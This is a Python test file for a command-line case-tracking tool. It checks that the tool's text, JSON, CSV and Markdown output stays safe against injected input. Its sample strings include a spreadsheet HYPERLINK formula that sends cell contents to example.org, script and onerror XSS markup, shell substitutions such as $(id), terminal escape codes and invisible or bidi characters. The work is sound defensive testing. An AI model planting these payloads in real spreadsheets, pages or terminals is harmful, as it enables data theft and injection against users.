"""Nothing a file or a user said steers what reads the output: a terminal, a spreadsheet, a program that reads JSON."""
import csv
import io
import json
import re
import unicodedata

from world import (CLOSED, HALTED, LONG, OPENED, PLAIN, RESOLVED, SETUP, WRITING, HostileTest, main, quoted)

TEXTS = {
    "a formula": '=HYPERLINK("http://example.org/?"&A1,"see")',
    "plus": "+44 1632 960001",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "a wide formula": "\uff1d1+1",
    "a quoted formula": "\"=1+1\"",
    "markdown": "[see](javascript:alert(1)) <img src=x onerror=alert(1)> `x` **b** &lt; \\[ [r]: [a][b] \\",
    "a tab and a formula": "\t=1+1",
    "quotes and commas": 'a,b;"c"\'d\'|e',
    "markup": "</td><script>alert(1)</script>&lt;\" onload='x'",
    "formats": "%s%n%x {} {0} ${HOME} $(id) `id` \\n \\x1b[31m \\u001b[31m \\033[31m",
    "unseen": "soft\u00adhyphen tag\U000e0041 selector\ufe0f joiner\u034f filler\u3164",
    "right to left": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "piled up": "z" + "\u0301\u0316" * 60,
    "wide": "\u65e5\u672c\u8a9e\U0001f469\u200d\U0001f467 \uff21",
    "long": "unbroken" * 60,
    "yaml": "- a: b # c\n--- |\n...",
}
HELP = ("help", "completion")  # the same text in every format
WIDE = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
SHORT = ["a formula", "a quoted formula", "minus", "markup", "unseen", "formats"]
RAW = ["\x1b[31m", "\x07", "\x9b31m", "\u202e", "\u2066", "\u200b", "\u2028", "\x7f", "\r", "\ufffe", "\x00", b"\xff"]
# What shows nothing or steers the reading direction and need not be in any text as it is.
UNSEEN = {0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180E, 0x2028, 0x2029, 0x2800, 0x3164, 0xFEFF, 0xFFA0,
          *range(0x200B, 0x2010), *range(0x202A, 0x202F), *range(0x2060, 0x2070), *range(0xFE00, 0xFE10),
          *range(0xFFF9, 0xFFFC), *range(0xE0000, 0xE1000), *range(0x7F, 0xA0)}


def steering(text):
    """Returns what in a text steers a terminal or cannot be seen; line ends apart."""
    return sorted({f"U+{ord(letter):04X}" for letter in text
                   if letter != "\n" and (unicodedata.category(letter) in ("Cc", "Cs") or ord(letter) in UNSEEN)})


def texts_in(value):
    """Returns every text of a JSON value."""
    if isinstance(value, str):
        return {value}
    parts = value.values() if isinstance(value, dict) else value if isinstance(value, list) else []
    return set().union(*map(texts_in, parts))


class Output(HostileTest):
    def world_of(self, text):
        """Returns a workspace in which every text of policy, settings and cases is this one."""
        line = " ".join(text.split())
        world = self.world(texts={name: line for name in PLAIN}, cases=False)
        world.write("escalate.yaml", "escalate: settings/1\nby: " + quoted(line) +
                    "\nservice: {example: {lead: " + quoted(line) + "}}\n")
        given = {"Example Primary School": line, "Example Council": line, "Nobody came.": text, "C-1": line, "Court": text,
                 "They came.": text, "Moved away": text}
        for words in SETUP:
            done = world.run([given[word] if word in given else word for word in self.with_equals(words, given)])
            self.assertEqual(done.code, 0, done)
        world.run(["note", OPENED, "--", text])
        world.run(["assign", OPENED, "manager", f"--to={line}"])
        return world

    def with_equals(self, words, given):
        """A value that begins with '-' follows '='."""
        line = []
        for word in words:
            if word in given and line and line[-1].startswith("--"):
                line[-1] += "=" + given[word]
            else:
                line.append(word)
        return line

    def check_csv(self, text, words):
        rows = list(csv.reader(io.StringIO(text)))
        self.assertEqual(len({len(row) for row in rows}), 1, words)
        for row in rows:
            for cell in row:
                first = cell.lstrip(' "')
                self.assertFalse(first.startswith(("=", "+", "-", "@", "\t", "\r", *WIDE)), (words, cell))
                self.assertNotIn("\n", cell)

    def check(self, world, words):
        done = world.run(words)
        self.assertNotEqual(done.code, 70, done)
        self.assertEqual((steering(done.out), steering(done.err)), ([], []), (words, done))
        if words[0] in HELP:
            return done
        if "json" in words and done.out:
            self.assertEqual(json.loads(done.out)["schemaVersion"], 1)
        if "csv" in words and done.code in (0, 1, 3):
            self.check_csv(done.out, words)
        return done

    def test_every_command_in_every_format(self):
        for name in TEXTS if LONG else SHORT:
            world = self.world_of(TEXTS[name])
            for command in self.commands.names:
                for form in ("text", "json", "csv"):
                    with self.subTest(text=name, command=command, form=form):
                        words = [*self.commands.words(command), "--format", form]
                        self.check(world, [*words, "--dry-run"] if command in WRITING else words)
            for case in (OPENED, HALTED, RESOLVED, CLOSED):
                for words in (["status", case], ["explain", case], ["history", case], ["status", "--all"]):
                    with self.subTest(text=name, words=words):
                        done = self.check(world, [*words, "--color", "never"])
                        self.assertEqual(done.code, 0, done)

    def test_what_was_said_comes_back_whole_in_json(self):
        for name in TEXTS if LONG else SHORT:
            world = self.world_of(TEXTS[name])
            with self.subTest(name):
                done = world.run(["history", OPENED, "--format", "json"])
                self.assertIn(TEXTS[name].rstrip(), texts_in(json.loads(done.out)))

    def test_colour_is_the_programs_own(self):
        """Where colour is asked for, the escape sequences are those of the program around the same text."""
        world = self.world_of(TEXTS["formats"])
        for words in (["status"], ["overdue"], ["status", OPENED], ["policy", "show", "example"]):
            plain = world.run([*words, "--color", "never"]).out
            coloured = world.run([*words, "--color", "always"]).out
            stripped = "".join(part.partition("m")[2] if number else part
                               for number, part in enumerate(coloured.split("\x1b[")))
            self.assertEqual(stripped, plain)

    def test_raw_controls_in_files_are_named_and_shown_escaped(self):
        for raw in RAW:
            for file in ("policies/example.yaml", "escalate.yaml", "policies/calendars/england-and-wales.yaml",
                         f"cases/2026/{OPENED}.yaml"):
                world = self.world()
                bytes_of = (world.folder / file).read_bytes()
                bad = raw if isinstance(raw, bytes) else raw.encode("utf-8", "surrogatepass")
                at = bytes_of.index(b"\n", len(bytes_of) // 2)
                world.write(file, bytes_of[:at] + bad + bytes_of[at:])
                for words in (["status"], ["policy", "check"], ["note", OPENED, "A text"], ["overdue", "--format", "json"],
                              ["status", "--format", "csv"], ["policy", "check", "--format", "json"]):
                    with self.subTest(raw=raw, file=file, words=words):
                        if file == f"cases/2026/{OPENED}.yaml" and raw == "\r":
                            continue  # before a line end it is one
                        self.check(world, words)

    def test_typed_text_in_messages(self):
        world = self.world()
        for raw in (*RAW, *TEXTS.values()):
            if raw == "\x00":
                continue
            for words in (["status", raw], ["policy", "show", raw], ["policy", "check", raw], ["overdue", f"--only={raw}"
                          if isinstance(raw, str) else raw], ["note", OPENED, raw, "--dry-run"], [raw], ["--now", raw, "status"],
                          ["deadline", raw, raw], ["-C", raw, "status"], ["done", OPENED, raw], ["correct", OPENED, raw,
                          "--because", "x"], ["mark", OPENED, raw], ["advance", OPENED, "--to", raw, "--because", "x"],
                          ["help", raw], ["open", "--policy", raw], ["deadline", "2026-11-02", "5 days", "--calendar", raw]):
                with self.subTest(words=words):
                    self.check(world, words)
                    self.check(world, [*words, "--format", "json"])

    def test_what_a_policy_says_is_plain_text_in_the_markdown_of_its_ladder(self):
        for name in ("markdown", "markup", "formats"):
            done = self.world_of(TEXTS[name]).run(["policy", "graph", "example"])
            words, fence, drawing = done.out.partition("```mermaid\n")
            self.assertEqual((fence, drawing.count("```"), drawing[-4:]), ("```mermaid\n", 1, "```\n"))
            self.assertEqual(re.findall(r"(?<!\\)(?:\\\\)*(?:[<`*]|&[#a-z]|\][(\[:])", words), [], words)

    def test_batch_input_cannot_steer_the_csv_it_becomes(self):
        world = self.world()
        for name, text in TEXTS.items():
            cell = '"' + text.replace('"', '""').replace("\n", " ") + '"'
            lines = f"from,duration,calendar,count-from\n{cell},{cell},{cell},{cell}\n2026-11-02,5 days,,{cell}\n"
            for form in ("text", "json", "csv"):
                with self.subTest(text=name, form=form):
                    done = world.run(["deadline", "--batch", "--format", form], stdin=lines.encode())
                    self.assertEqual((steering(done.out), steering(done.err)), ([], []), done)
                    if form == "csv":
                        self.check_csv(done.out, form)


if __name__ == "__main__":
    main()
